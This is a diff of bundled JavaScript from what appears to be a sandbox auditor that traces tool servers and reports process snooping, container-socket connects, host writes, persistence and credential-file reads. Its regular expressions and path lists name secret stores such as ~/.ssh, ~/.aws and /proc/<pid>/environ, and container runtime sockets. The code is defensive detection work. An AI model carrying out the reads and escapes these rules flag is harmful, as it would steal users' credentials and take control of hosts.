+            ...(tool !== undefined ? { tool } : {}),
+            phase: lead.phase,
+            evidence: { ...evidence, traceLines: [...lines].sort((a, b) => a - b).slice(0, MAX_EVIDENCE_LINES) },
+            fingerprint: fingerprint(lead.rule, lead.subject, lead.phase)
+        };
+        findings.push({ finding, subject: lead.subject, order: lead.order });
+    }
+    findings.sort((a, b) => (0,model/* severityRank */.qs)(b.finding.severity) - (0,model/* severityRank */.qs)(a.finding.severity) ||
+        (a.finding.rule < b.finding.rule ? -1 : a.finding.rule > b.finding.rule ? 1 : 0) ||
+        (a.subject < b.subject ? -1 : a.subject > b.subject ? 1 : 0) ||
+        a.order[0] - b.order[0] ||
+        a.order[1] - b.order[1]);
+    return findings.map((f) => f.finding);
+}
+
+;// CONCATENATED MODULE: ./src/rules/behaviour-rules.ts
+// behaviour-change: what a call site does now that it did not do in the accepted baseline (or no longer
+// does). Severity comes from the diff (baseline/diff.ts); an accepted change is info, like rug-pull.
+
+function phaseOfSite(site, calls) {
+    if (site === 'shutdown')
+        return { kind: 'shutdown' };
+    const call = calls.find((record) => `${record.kind}:${record.name}` === site);
+    if (!call)
+        return { kind: 'startup' };
+    return { kind: 'call', call: { id: call.id, kind: call.kind, name: call.name, iteration: call.iteration }, afterResponse: false };
+}
+function behaviourOccurrences(behaviour, calls) {
+    if (!behaviour || (behaviour.status !== 'changed' && behaviour.status !== 'accepted'))
+        return [];
+    return behaviour.changes.map((change, index) => ({
+        rule: 'behaviour-change',
+        subject: `${change.site} ${change.change} ${change.aspect} ${change.value}`,
+        severity: behaviour.status === 'accepted' ? 'info' : change.severity,
+        message: (0,neutralize/* excerpt */.Kb)(behaviour.status === 'accepted' ? `${change.message} (accepted)` : change.message, 300),
+        phase: phaseOfSite(change.site, calls),
+        order: [0, index],
+        evidence: {},
+        traceLines: []
+    }));
+}
+
+;// CONCATENATED MODULE: ./src/profile/process-snooping.ts
+// Another process's environment, command line and memory hold its secrets (tokens passed as arguments or
+// environment, keys in memory). The profile keeps /proc/<pid> of the server's own processes as noise, so a
+// /proc/<pid>/… entry that reaches the rules belongs to a process the server did not start.
+const SNOOPED = /^\/proc\/(\d+)(?:\/task\/\d+)?\/(environ|cmdline|mem)$/;
+/** The process and file when `path` is another process's environ, cmdline or mem (never /proc/self). */
+function snoopedProcessFile(path) {
+    const match = SNOOPED.exec(path);
+    return match ? { pid: Number(match[1]), file: match[2] } : null;
+}
+
+;// CONCATENATED MODULE: ./src/rules/host-containment-rules.ts
+// Host containment: with the server's filesystem contained, a write outside the places it may change
+// (host-write, judged in file-rules) or a connect to a host unix socket (host-socket) reaches the host.
+
+
+/** With containment, a write anywhere but the workspaces, the home and temp dirs would change the host. */
+function outsideWritable(judge, path, file) {
+    const roots = judge.input.writableRoots;
+    if (roots === undefined || !path.startsWith('/'))
+        return false;
+    // A flood folded into a directory aggregate (even `/`) keeps its entries' category: temp files, the
+    // working directory and the home stay writable places whatever the aggregate's path.
+    if (file.aggregated && (file.category === 'tmp' || file.category === 'workdir' || file.category === 'canary-home'))
+        return false;
+    if (judge.input.auditorPaths?.some((root) => isUnder(path, root)))
+        return true;
+    if (roots.some((root) => isUnder(path, root)))
+        return false;
+    // Writing to the null device, a terminal or an fd of its own changes nothing.
+    return !/^\/dev\/(null|zero|full|tty|pts\/|stdout|stderr|fd\/)|^\/proc\/(self|thread-self|\d+)\/fd\//.test(path);
+}
+// Sockets glibc's name service switch tries on every lookup (nscd, systemd-resolved and userdb, avahi):
+// a failed connect there is how a resolver falls back to plain DNS, not an attempt on the host.
+const NAME_SERVICE_SOCKETS = [
+    /^\/(var\/)?run\/nscd\//,
+    /^\/run\/systemd\/(resolve|userdb)\//,
+    /^\/(var\/)?run\/avahi-daemon\//,
+    /^\/run\/dbus\/system_bus_socket$/
+];
+const CONTAINER_SOCKETS = /(^|\/)(docker|containerd|podman|crio|cri-dockerd|buildkitd|dockershim|lxd|incus)(\.sock|\/|$)/;
+function hostSocketOccurrences(judge, out) {
+    const roots = judge.input.writableRoots;
+    if (roots === undefined)
+        return;
+    for (const entry of judge.input.observed.network) {
+        if (entry.family !== 'unix' || entry.address.startsWith('@') || !entry.address.startsWith('/'))
+            continue;
+        // A socket the server made itself in its own scratch space is not the host's.
+        if (roots.some((root) => isUnder(entry.address, root)))
+            continue;
+        if (NAME_SERVICE_SOCKETS.some((pattern) => pattern.test(entry.address)))
+            continue;
+        const container = CONTAINER_SOCKETS.test(entry.address);
+        const verb = entry.succeeded ? (entry.syscall === 'connect' ? 'connects to' : 'sends data to') : 'tried to connect to';
+        pushOccurrences(out, entry, { rule: 'host-socket', subject: entry.address, evidence: { addresses: [`unix:${entry.address}`] } }, () => ({ severity: container ? 'critical' : 'high', suffix: '' }), () => `${verb} the host unix socket ${entry.address}${container ? ' (a container runtime: full control of the host)' : ''}`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/profile/fold.ts
+// Bounds on the profile: a server that makes millions of distinct accesses (a flood of temp names, of
+// probed paths) must not grow the auditor's memory or the report with them. Up to a cap every path has
+// its own entry; past it, accesses are counted per directory (see file-recorder.ts). The trace on disk
+// stays complete.
+
+// ~1.5 kB of JSON per entry with its findings: these keep report.json to a few MB whatever happens.
+const DEFAULT_PROFILE_LIMITS = { files: 2000, sensitiveFiles: 2000, foldedFiles: 500, dns: 2000, network: 2000, leaks: 1000 };
+/** Levels of folding: each next one is coarser, the last is bounded by itself. */
+const FOLD_LEVELS = ['parent', 'top', 'root'];
+/** `a.b.example.com` → `*.b.example.com` (parent), `*.example.com` (top), `*` (root). */
+function foldedDnsName(name, level) {
+    if (level === 'root')
+        return '*';
+    const labels = name.split('.').filter((l) => l.length > 0);
+    const keep = level === 'parent' ? labels.slice(1) : labels.slice(-2);
+    return keep.length === 0 ? '*' : `*.${keep.join('.')}`;
+}
+/** The directory an access to `path` is counted under: its parent, its top-level directory, or `/`. */
+function foldedDirectory(path, level) {
+    if (!path.startsWith('/'))
+        return level === 'parent' ? external_node_path_.posix.dirname(path) : '.';
+    if (level === 'root')
+        return '/';
+    if (level === 'parent')
+        return external_node_path_.posix.dirname(path);
+    const slash = path.indexOf('/', 1);
+    return slash === -1 ? '/' : path.slice(0, slash);
+}
+
+;// CONCATENATED MODULE: ./src/profile/net-effect.ts
+// The net effect of one call on the filesystem. A lock file created and removed within the call, a temp
+// file renamed over its target (an atomic save), a directory tree a failed `git clone` makes and cleans
+// up: each access is real and stays in the profile, but marked `transient`, so rules that judge what a
+// call changed (annotations, info effects) see only what the call left behind: nothing, or the target.
+
+
+const GIT_INDEX_REFRESH = "git's index refresh (.git/index.lock renamed over .git/index: a cache of file stats)";
+function isGitIndexRefresh(from, to) {
+    return to.endsWith('/.git/index') && from === `${to}.lock`;
+}
+/** Accesses held per call before they are recorded; past it the call's journal is flushed as it stands. */
+const MAX_PENDING_ACCESSES = 5_000;
+/**
+ * One unit's changing accesses in trace order, and what each path went through in it. A path is *new*
+ * when the unit created it (O_EXCL, creat, mkdir) or it lies under a directory the unit created: only
+ * removing a new path undoes it. A path opened for writing without O_EXCL may have existed before; it
+ * counts as new only under a new directory.
+ *
+ * The held accesses live in columns reused from one flush to the next, not in an object each: a flood
+ * of creates holds thousands at a time, long enough for the GC to promote them, and objects promoted
+ * only to die at the flush grew the auditor's peak memory by a third.
+ */
+class CallJournal {
+    count = 0;
+    paths = [];
+    categories = [];
+    renamedTo = [];
+    via = [];
+    accesses = new Uint8Array(MAX_PENDING_ACCESSES);
+    lines = new Float64Array(MAX_PENDING_ACCESSES);
+    times = new Float64Array(MAX_PENDING_ACCESSES);
+    /** the syscall's return value; NaN for none (a process that died in it) */
+    rets = new Float64Array(MAX_PENDING_ACCESSES);
+    transient = new Uint8Array(MAX_PENDING_ACCESSES);
+    /** per held access in a path's history: the one before it in that history, or -1 */
+    earlier = new Int32Array(MAX_PENDING_ACCESSES);
+    /**
+     * Per path the unit wrote or created (whose rename onto another name is a save, not a move): the last
+     * access of its history (the accesses that made or shaped what is there now), times two, plus one
+     * when the unit created the path.
+     */
+    written = new Map();
+    get size() {
+        return this.count;
+    }
+    add(path, access, category, event, renamedTo, via) {
+        if (this.count === MAX_PENDING_ACCESSES)
+            throw new Error('the call journal is full: flush it first');
+        const at = this.count++;
+        this.paths[at] = path;
+        this.categories[at] = category;
+        this.renamedTo[at] = renamedTo;
+        this.via[at] = via;
+        this.accesses[at] = model/* FILE_ACCESSES */.wc.indexOf(access);
+        this.lines[at] = event.line;
+        this.times[at] = event.time;
+        this.rets[at] = event.ret ?? NaN;
+        this.transient[at] = 0;
+        this.earlier[at] = -1;
+        const succeeded = event.ret !== null && event.ret >= 0;
+        if (!succeeded)
+            return;
+        switch (access) {
+            case 'create':
+            case 'mkdir':
+                this.extendHistory(path, at, true);
+                return;
+            case 'write':
+                this.extendHistory(path, at, false);
+                return;
+            case 'rename': {
+                const to = renamedTo;
+                if (to === undefined)
+                    return;
+                // A file this unit wrote, renamed onto another name (a temp or lock over its target): the target
+                // is what changed. A rename of anything older moves it away, which stays an effect of its own.
+                const madeHere = this.written.has(path);
+                if (madeHere)
+                    this.markHistoryTransient(path);
+                this.written.delete(path);
+                if (madeHere && isGitIndexRefresh(path, to)) {
+                    // git's opportunistic refresh of its index, a cache of file stats, that read-only commands such
+                    // as `git status` make (what GIT_OPTIONAL_LOCKS=0 turns off): the working tree and the history
+                    // are as they were. It stays in the profile, marked, and is no change a call is judged by.
+                    this.transient[at] = 1;
+                    this.via[at] = GIT_INDEX_REFRESH;
+                    return;
+                }
+                if (madeHere)
+                    this.extendHistory(to, at, false);
+                return;
+            }
+            case 'delete':
+                if (this.isNew(path)) {
+                    this.markHistoryTransient(path);
+                    this.transient[at] = 1;
+                }
+                this.written.delete(path);
+                return;
+            case 'read':
+                return;
+        }
+    }
+    /** Hands every held access to `record` in trace order, and empties the journal for the next unit. */
+    flush(record) {
+        for (let at = 0; at < this.count; at++) {
+            const ret = this.rets[at];
+            record(this.paths[at], model/* FILE_ACCESSES */.wc[this.accesses[at]], this.categories[at], { line: this.lines[at], time: this.times[at], ret: Number.isNaN(ret) ? null : ret }, this.renamedTo[at], this.via[at], this.transient[at] === 1);
+        }
+        this.count = 0;
+        for (const column of [this.paths, this.categories, this.renamedTo, this.via])
+            column.length = 0;
+        this.written = new Map();
+    }
+    extendHistory(path, at, creates) {
+        const state = this.written.get(path);
+        this.earlier[at] = state === undefined ? -1 : state >> 1;
+        this.written.set(path, (at << 1) | (creates ? 1 : (state ?? 0) & 1));
+    }
+    markHistoryTransient(path) {
+        const state = this.written.get(path);
+        for (let at = state === undefined ? -1 : state >> 1; at !== -1; at = this.earlier[at])
+            this.transient[at] = 1;
+    }
+    isNew(path) {
+        const created = (dir) => ((this.written.get(dir) ?? 0) & 1) === 1;
+        if (!path.startsWith('/'))
+            return created(path);
+        for (let dir = path;; dir = external_node_path_.posix.dirname(dir)) {
+            if (created(dir))
+                return true;
+            if (dir === '/')
+                return false;
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./src/profile/tally.ts
+
+const MAX_TRACE_LINES = 20;
+const MAX_PHASES = 10;
+class Tally {
+    tracked = new Map();
+    get size() {
+        return this.tracked.size;
+    }
+    has(key) {
+        return this.tracked.has(key);
+    }
+    /** The entry under `key` (made by `create` when there is none yet), noted as seen in `phase` at `line`. */
+    record(key, phase, line, create) {
+        let tracked = this.tracked.get(key);
+        if (!tracked) {
+            tracked = { entry: create(), phaseKeys: new Set() };
+            this.tracked.set(key, tracked);
+        }
+        const phaseId = phaseKey(phase);
+        if (!tracked.phaseKeys.has(phaseId) && tracked.phaseKeys.size < MAX_PHASES) {
+            tracked.phaseKeys.add(phaseId);
+            tracked.entry.phases.push(phase);
+        }
+        const lines = tracked.entry.traceLines;
+        if (lines.includes(line))
+            return tracked.entry;
+        // The first lines, and the latest one in the last slot: where it started and how long it went on.
+        if (lines.length < MAX_TRACE_LINES)
+            lines.push(line);
+        else if (line > lines[MAX_TRACE_LINES - 1])
+            lines[MAX_TRACE_LINES - 1] = line;
+        return tracked.entry;
+    }
+    values() {
+        return [...this.tracked.values()].map((t) => t.entry);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/profile/file-recorder.ts
+
+
+
+
+
+/** `via` of a create that made a link, not a file: the new name may stand for a file older than the run. */
+const HARD_LINK = 'hard link';
+const SYMBOLIC_LINK = 'symbolic link';
+class FileRecorder {
+    clock;
+    pathContext;
+    limits;
+    aggregated;
+    onRead;
+    files = new Tally();
+    /** exact file entries of sensitive paths, which get room of their own beyond the shared cap */
+    sensitiveFileEntries = 0;
+    foldedFileEntries = 0;
+    noise = {};
+    journal = new CallJournal();
+    journalUnit = null;
+    /** `aggregated`: accesses recorded in directory aggregates instead of per path, by profile section (shared) */
+    constructor(clock, pathContext, limits, aggregated, 
+    /** told of every successful read, before any noise verdict */
+    onRead) {
+        this.clock = clock;
+        this.pathContext = pathContext;
+        this.limits = limits;
+        this.aggregated = aggregated;
+        this.onRead = onRead;
+    }
+    /** Files whose reads are findings by themselves: the planted home and credential stores anywhere. */
+    isSensitive(path) {
+        return isUnder(path, this.pathContext.home) || isCredentialPath(path, this.pathContext.home);
+    }
+    /**
+     * A read by a standard program consulting a credential store for the host it is about to contact
+     * (credential-lookups.ts): an entry of its own, returned so that the host can be added to it.
+     */
+    recordLookup(path, event, program) {
+        if (event.ret !== null && event.ret >= 0)
+            this.onRead?.(path);
+        return this.recordEntry(path, 'read', classifyPath(path, 'read', this.pathContext).category, event, undefined, undefined, false, program);
+    }
+    record(path, access, event, renamedTo, via) {
+        if (access === 'read' && event.ret !== null && event.ret >= 0)
+            this.onRead?.(path);
+        const classification = classifyPath(path, access, this.pathContext);
+        const renameClass = renamedTo !== undefined ? classifyPath(renamedTo, 'rename', this.pathContext) : null;
+        const noise = classification.noise && (renameClass === null || renameClass.noise);
+        if (noise) {
+            this.noise[classification.category] = (this.noise[classification.category] ?? 0) + 1;
+            return;
+        }
+        if (access === 'read') {
+            this.recordEntry(path, access, classification.category, event, renamedTo, via, false);
+            return;
+        }
+        // the unit a net effect is taken over: one call (its after-response time included), startup, shutdown
+        const unit = callKey(this.clock.phaseAt(event.time));
+        if (unit !== this.journalUnit || this.journal.size >= MAX_PENDING_ACCESSES) {
+            this.flushJournal();
+            this.journalUnit = unit;
+        }
+        this.journal.add(path, access, classification.category, event, renamedTo, via);
+    }
+    flushJournal() {
+        this.journal.flush(this.recordHeld);
+        this.journalUnit = null;
+    }
+    recordHeld = (path, access, category, event, renamedTo, via, transient) => {
+        this.recordEntry(path, access, category, event, renamedTo, via, transient);
+    };
+    recordEntry(path, access, category, event, renamedTo, via, transient, lookupBy) {
+        const succeeded = event.ret !== null && event.ret >= 0;
+        const phase = this.clock.phaseAt(event.time);
+        const key = `${callSiteKey(phase)}\0${path}\0${access}\0${renamedTo ?? ''}\0${via ?? ''}${transient ? '\0transient' : ''}${lookupBy !== undefined ? `\0lookup\0${lookupBy}` : ''}`;
+        if (!this.files.has(key)) {
+            const sensitive = this.isSensitive(path) || (renamedTo !== undefined && this.isSensitive(renamedTo));
+            const room = this.files.size - this.sensitiveFileEntries - this.foldedFileEntries < this.limits.files;
+            const sensitiveRoom = sensitive && this.sensitiveFileEntries < this.limits.sensitiveFiles;
+            if (!room && !sensitiveRoom) {
+                this.recordFolded(path, access, category, succeeded, event);
+                return undefined;
+            }
+            if (!room)
+                this.sensitiveFileEntries++;
+        }
+        const entry = this.files.record(key, phase, event.line, () => {
+            const home = this.pathContext.home;
+            const made = { path, access, succeeded, category, noise: false, count: 0, phases: [], traceLines: [] };
+            if (isUnder(path, home))
+                made.homePath = displayPath(path, home);
+            if (renamedTo !== undefined)
+                made.renamedTo = renamedTo;
+            if (via !== undefined)
+                made.via = via;
+            if (transient)
+                made.transient = true;
+            if (lookupBy !== undefined)
+                made.lookup = { program: lookupBy, hosts: [] };
+            return made;
+        });
+        entry.count += 1;
+        entry.succeeded ||= succeeded;
+        return entry;
+    }
+    /** the entries, and the count of noise accesses per category */
+    finish() {
+        this.flushJournal();
+        return { files: this.files.values(), noise: this.noise };
+    }
+    /**
+     * Past the cap of distinct paths, accesses are counted per directory (one entry per directory, access
+     * and category), then per top-level directory, then under `/`: a flood of distinct names cannot grow
+     * the profile, and every access is still counted and dated.
+     */
+    recordFolded(path, access, category, succeeded, event) {
+        this.aggregated.files = (this.aggregated.files ?? 0) + 1;
+        for (const level of FOLD_LEVELS) {
+            const dir = foldedDirectory(path, level);
+            const key = `${dir}\0${access}\0\0\0${category}\0folded`;
+            const known = this.files.has(key);
+            // Top-level directories get room of their own: they are what parents fold into.
+            const room = level === 'root' || this.foldedFileEntries < (level === 'parent' ? 1 : 2) * this.limits.foldedFiles;
+            if (!known && !room)
+                continue;
+            if (!known)
+                this.foldedFileEntries++;
+            const entry = this.files.record(key, this.clock.phaseAt(event.time), event.line, () => {
+                const made = { path: dir, access, succeeded, category, noise: false, aggregated: true, count: 0, phases: [], traceLines: [] };
+                if (isUnder(dir, this.pathContext.home))
+                    made.homePath = displayPath(dir, this.pathContext.home);
+                return made;
+            });
+            entry.count += 1;
+            entry.succeeded ||= succeeded;
+            return;
+        }
+    }
+}
+/**
+ * What an open() does to the file. O_PATH only obtains a handle (no read); O_CREAT without O_EXCL
+ * may overwrite, so it is a write; O_CREAT|O_EXCL only ever makes a new file.
+ */
+function accessOfOpen(event) {
+    if (event.syscall === 'creat')
+        return 'create';
+    const flags = new Set(event.flags);
+    if (flags.has('O_PATH'))
+        return null;
+    if (flags.has('O_CREAT') && flags.has('O_EXCL'))
+        return 'create';
+    if (flags.has('O_WRONLY') || flags.has('O_RDWR') || flags.has('O_CREAT') || flags.has('O_TRUNC'))
+        return 'write';
+    return 'read';
+}
+
+;// CONCATENATED MODULE: ./src/rules/own-state.ts
+// Own state: what the server keeps in a directory it created itself during this run (its config dir,
+// caches, logs, a browser profile, with their atomic-write temps and locks) is the server's own business,
+// not the user's environment. One finding per directory, naming the tools and a few files.
+//
+// A directory counts only when the trace proves it new: a successful mkdir of it, outside the workspace,
+// under the canary home (temp dirs are scratch space already), and nothing that could have put an older
+// file below it: no delete or rename of it or of an ancestor (it could have existed before, been moved
+// away and made again), no rename into it from outside, no hard or symbolic link made below it (another
+// name for an older file), and not a place other programs read (OTHER_PROGRAMS, persistence spots). Only paths strictly below such a directory, and its own mkdir, are own state:
+// a mkdir cannot launder a write to ~/.bashrc, a canary file or the workspace.
+
+
+
+
+
+
+/**
+ * Places in a home that other programs read (credentials, package managers, PATH, browsers): a directory
+ * the server makes there is their config, never its own state, however new. Persistence spots too
+ * (persistence-paths.ts).
+ */
+const OTHER_PROGRAMS = [
+    '.ssh',
+    '.gnupg',
+    '.aws',
+    '.azure',
+    '.kube',
+    '.docker',
+    '.config/gh',
+    '.config/gcloud',
+    '.config/pip',
+    '.pip',
+    '.cargo',
+    '.m2',
+    '.gradle',
+    '.npm',
+    '.yarn',
+    '.local/bin',
+    'bin',
+    '.local/share/applications',
+    '.mozilla',
+    '.config/google-chrome',
+    '.config/chromium',
+    '.pki',
+    '.terraform.d'
+];
+const SHOWN_NAMES = 3;
+const SHOWN_TOOLS = 4;
+/** Names made per write or per process: atomic-write temps, locks, swap files, timestamps and random runs. */
+const SCRATCH_NAME = /\.(tmp|temp|lock|swp|swx)$|\.lock\/|~$|\d{9,}|[0-9a-f]{12,}/i;
+/**
+ * The directories the server created in this run, outside the workspace and under the canary home,
+ * whose contents the trace proves new (see the header); only the topmost of nested ones.
+ */
+function ownStateRoots(files, home, cwd, writableRoots = []) {
+    const workspaces = writableRoots.filter((root) => !isUnder(root, home) && !isUnder(home, root));
+    const made = new Set();
+    for (const file of files) {
+        if (file.access !== 'mkdir' || !file.succeeded || file.aggregated || file.noise)
+            continue;
+        const dir = file.path;
+        if (dir === home || !isUnder(dir, home))
+            continue;
+        if (cwd !== undefined && (isUnder(dir, cwd) || isUnder(cwd, dir)))
+            continue;
+        if (workspaces.some((root) => isUnder(dir, root)))
+            continue;
+        if (OTHER_PROGRAMS.some((place) => isUnder(dir, `${home}/${place}`)) || persistenceKind(`${dir}/x`, home) !== null)
+            continue;
+        made.add(dir);
+    }
+    const tainted = (dir) => files.some((file) => {
+        // an older thing may stand at this path: it, or an ancestor, was removed or moved (then made again)
+        if ((file.access === 'delete' || file.access === 'rename') && isUnder(dir, file.path))
+            return true;
+        if (file.access === 'rename' && file.renamedTo !== undefined) {
+            // something from outside moved in, or moved over it or an ancestor
+            if (isUnder(file.renamedTo, dir) && !isUnder(file.path, dir))
+                return true;
+            if (isUnder(dir, file.renamedTo))
+                return true;
+        }
+        // another name for a file that may be older than the run
+        return file.access === 'create' && (file.via === HARD_LINK || file.via === SYMBOLIC_LINK) && isUnder(file.path, dir);
+    });
+    const own = [...made].filter((dir) => !tainted(dir)).sort();
+    return own.filter((dir) => !own.some((other) => other !== dir && isUnder(dir, other)));
+}
+class OwnState {
+    judge;
+    roots;
+    held = new Map();
+    constructor(judge) {
+        this.judge = judge;
+        const { observed, home, cwd, writableRoots } = judge.input;
+        this.roots = ownStateRoots(observed.files, home, cwd, writableRoots);
+    }
+    /** The own-state directory `target` belongs to: strictly below one, or the mkdir of one itself. */
+    rootOf(target, access) {
+        return this.roots.find((root) => isUnder(target, root) && (target !== root || access === 'mkdir')) ?? null;
+    }
+    hold(root, file, target, kind) {
+        const list = this.held.get(root) ?? [];
+        list.push({ file, target, kind });
+        this.held.set(root, list);
+    }
+    /** One occurrence per directory. */
+    emit(out) {
+        for (const [root, held] of this.held) {
+            const occurrence = this.occurrence(root, held);
+            if (occurrence)
+                out.push(occurrence);
+        }
+    }
+    judgePhase(phase, entry) {
+        const judge = this.judge;
+        const policy = judge.policy.write(callName(phase), entry.target);
+        if (policy)
+            return policy.allowed ? null : { severity: 'high', suffix: "; outside the policy's write paths", declared: `policy: ${policy.section}` };
+        const restriction = entry.kind === 'write'
+            ? judge.restriction(phase, writeRestriction, 'readOnlyHint: true')
+            : judge.restriction(phase, deleteRestriction, 'it does not delete');
+        if (restriction)
+            return { severity: 'medium', suffix: restriction.suffix, declared: restriction.declared };
+        return { severity: 'info', suffix: '' };
+    }
+    occurrence(root, held) {
+        const home = this.judge.input.home;
+        const judged = [];
+        const lines = new Set();
+        const sites = [];
+        const names = new Set();
+        const scratch = new Set();
+        for (const entry of held) {
+            const relative = entry.target === root ? null : entry.target.slice(root.length + 1);
+            if (relative !== null)
+                (entry.file.transient || SCRATCH_NAME.test(relative) ? scratch : names).add(relative);
+            // what the call undid itself changes nothing the annotations or the policy speak of
+            if (entry.file.transient)
+                continue;
+            const first = entry.file.traceLines[0] ?? Number.MAX_SAFE_INTEGER;
+            entry.file.phases.forEach((phase, index) => {
+                const verdict = this.judgePhase(phase, entry);
+                if (verdict === null)
+                    return;
+                judged.push({ ...verdict, phase, order: [first, index] });
+                const site = callName(phase) ?? phase.kind;
+                if (!sites.includes(site))
+                    sites.push(site);
+                for (const line of entry.file.traceLines)
+                    lines.add(line);
+            });
+        }
+        if (judged.length === 0)
+            return null;
+        let lead = judged[0];
+        for (const candidate of judged) {
+            const rank = (0,model/* severityRank */.qs)(candidate.severity) - (0,model/* severityRank */.qs)(lead.severity);
+            const earlier = candidate.order[0] < lead.order[0] || (candidate.order[0] === lead.order[0] && candidate.order[1] < lead.order[1]);
+            if (rank > 0 || (rank === 0 && earlier))
+                lead = candidate;
+        }
+        const shownRoot = displayPath(root, home);
+        const shownNames = [...names].sort();
+        const files = [
+            ...shownNames.slice(0, SHOWN_NAMES),
+            ...(shownNames.length > SHOWN_NAMES ? [`${shownNames.length - SHOWN_NAMES} more`] : []),
+            ...(scratch.size > 0 ? ['temp and lock files'] : [])
+        ];
+        const contents = files.length > 0 ? `: ${files.join(', ')}` : '';
+        const by = `${sites.slice(0, SHOWN_TOOLS).join(', ')}${sites.length > SHOWN_TOOLS ? ` +${sites.length - SHOWN_TOOLS} more` : ''}`;
+        const leadSite = callName(lead.phase) ?? lead.phase.kind;
+        const suffix = lead.suffix.replace('; the tool declares', `; ${leadSite} declares`);
+        return {
+            rule: 'own-state',
+            subject: shownRoot,
+            severity: lead.severity,
+            message: `keeps its own state in ${shownRoot}, a directory it created in this run${contents} (by ${by})${suffix}`,
+            phase: lead.phase,
+            order: lead.order,
+            evidence: {
+                paths: [shownRoot, ...shownNames.slice(0, 5).map((name) => displayPath(`${root}/${name}`, home))],
+                ...(lead.declared !== undefined ? { declared: lead.declared } : {})
+            },
+            traceLines: [...lines].sort((a, b) => a - b)
+        };
+    }
+}
+
+;// CONCATENATED MODULE: ./src/rules/file-rules.ts
+// Files: sensitive-file-read, process-snooping, host-path, persistence (by path), file-write,
+// file-delete, host-write and own-state (own-state.ts).
+
+
+
+
+
+
+
+function isTemporary(path, home, cwd) {
+    // The server's own working directory is never scratch space, even when it sits under /tmp.
+    if (isUnder(path, home) || (cwd !== undefined && isUnder(path, cwd)))
+        return false;
+    return isUnder(path, '/tmp') || isUnder(path, '/var/tmp') || isUnder(path, '/dev/shm');
+}
+function fileOccurrences(judge, out) {
+    const { observed, home } = judge.input;
+    const show = (path) => displayPath(path, home);
+    const written = new Set(observed.files.filter((f) => f.access === 'write' || f.access === 'create').map((f) => f.path));
+    const own = new OwnState(judge);
+    for (const file of observed.files) {
+        if (file.noise)
+            continue;
+        const tried = !file.succeeded;
+        if (file.access === 'read')
+            readOccurrences(judge, out, file, show(file.path), tried);
+        const target = file.access === 'rename' ? file.renamedTo : file.access === 'read' || file.access === 'delete' ? undefined : file.path;
+        const saved = file.access === 'rename' && written.has(file.path);
+        if (target !== undefined)
+            writeOccurrences(judge, out, file, target, tried, saved, own);
+        const removed = file.access === 'delete' ? file.path : file.access === 'rename' && !saved ? file.path : undefined;
+        if (removed !== undefined)
+            deleteOccurrences(judge, out, file, removed, tried, own);
+    }
+    own.emit(out);
+}
+function readOccurrences(judge, out, file, shown, tried) {
+    const { home } = judge.input;
+    const verb = tried ? 'tried to read' : 'reads';
+    const snooped = file.noise ? null : snoopedProcessFile(file.path);
+    if (snooped) {
+        pushOccurrences(out, file, { rule: 'process-snooping', subject: file.path, evidence: { paths: [file.path] } }, () => ({ severity: 'high', suffix: '' }), () => `${verb} the ${snooped.file} of another process (pid ${snooped.pid})`);
+        return;
+    }
+    if (file.lookup)
+        return lookupOccurrences(judge, out, file, shown, tried);
+    const sensitive = isSensitivePath(file.path, home);
+    if (file.category === 'host' && !sensitive) {
+        // Hidden by the sandbox (another user's home, the runner's or the auditor's files): whether it
+        // worked or not, looking there is the finding.
+        pushOccurrences(out, file, { rule: 'host-path', subject: shown, evidence: { paths: [shown] } }, () => ({ severity: 'high', suffix: '' }), () => `${tried ? 'tried to read' : 'reads'} ${shown}, a host path the sandbox hides`);
+        return;
+    }
+    // Failed lookups outside the policy are how runtimes search for modules; only sensitive ones count.
+    if (!sensitive && tried)
+        return;
+    const via = file.via !== undefined ? ` via ${file.via}` : '';
+    const what = file.aggregated ? `${shown} (${file.count} accesses to paths below it)` : shown;
+    pushOccurrences(out, file, { rule: 'sensitive-file-read', subject: shown, evidence: { paths: [shown], ...(file.witness ? { witness: file.witness } : {}) } }, (phase) => {
+        const judged = judge.decide(judge.policy.read(callName(phase), file.path), "; outside the policy's read paths", null, sensitive ? 'high' : null);
+        return sensitive && judged.severity === 'high' && !judged.declared ? { ...judged, suffix: ', undeclared' } : judged;
+    }, (j) => `${verb} ${what}${via}${j.suffix}`);
+}
+/**
+ * `saved`: a rename of a file the server itself wrote (a temp file or lock onto its target), whose net
+ * effect is writing the target.
+ */
+/**
+ * git or libcurl consulting ~/.netrc (or git's credential store) for the host it contacts: an
+ * observation with the program and the host, high once that credential is seen leaving.
+ */
+function lookupOccurrences(judge, out, file, shown, tried) {
+    const lookup = file.lookup;
+    if (!lookup)
+        return;
+    const leaked = judge.input.observed.leaks.some((leak) => leak.canary === shown);
+    const hosts = lookup.hosts.length > 0 ? ` before contacting ${lookup.hosts.slice(0, 3).join(', ')}${lookup.hosts.length > 3 ? ', …' : ''}` : '';
+    pushOccurrences(out, file, { rule: 'credential-lookup', subject: `${lookup.program}\0${shown}`, evidence: { paths: [shown], argv: [[lookup.program]] } }, (phase) => judge.decide(judge.policy.read(callName(phase), file.path), "; outside the policy's read paths", null, leaked ? 'high' : 'info'), (j) => `${lookup.program} ${tried ? 'tried to consult' : 'consulted'} ${shown}${hosts}${leaked ? ', and the credential was seen leaving' : ''}${j.suffix}`);
+}
+function writeOccurrences(judge, out, file, target, tried, saved, own) {
+    const { home } = judge.input;
+    const shown = displayPath(target, home);
+    const kind = persistenceKind(target, home);
+    const verb = file.access === 'rename'
+        ? saved && !tried
+            ? 'writes'
+            : `${tried ? 'tried to rename' : 'renames'} ${displayPath(file.path, home)} to`
+        : file.access === 'create'
+            ? tried
+                ? 'tried to create'
+                : 'creates'
+            : file.access === 'mkdir'
+                ? tried
+                    ? 'tried to create the directory'
+                    : 'creates the directory'
+                : tried
+                    ? 'tried to write'
+                    : 'writes';
+    if (kind !== null && file.access !== 'mkdir') {
+        // Persistence is reported whatever the annotations or the policy say.
+        pushOccurrences(out, file, { rule: 'persistence', subject: shown, evidence: { paths: [shown] } }, () => ({ severity: 'critical', suffix: '' }), () => `${verb} ${shown} (${kind})`);
+        return;
+    }
+    if (outsideWritable(judge, target, file)) {
+        pushOccurrences(out, file, { rule: 'host-write', subject: shown, evidence: { paths: [shown] } }, () => ({ severity: 'high', suffix: '' }), () => `${verb} ${shown}, outside its workspace and temp dirs`);
+        return;
+    }
+    const ownRoot = own.rootOf(target, file.access);
+    if (ownRoot !== null)
+        return own.hold(ownRoot, file, target, 'write');
